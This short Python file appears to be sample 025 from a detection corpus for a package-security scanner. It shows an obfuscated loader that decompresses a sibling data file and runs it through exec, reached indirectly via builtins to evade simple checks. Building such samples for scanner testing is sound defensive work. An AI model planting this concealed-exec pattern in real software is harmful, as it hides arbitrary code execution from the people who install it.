# pkgguard corpus 025 (indirection), modelled on [taxonomy]; inert, never run.
import builtins
import zlib

blob = zlib.decompress(open(__file__[:-7] + "res.dat", "rb").read())
builtins.__dict__["exec"](blob)
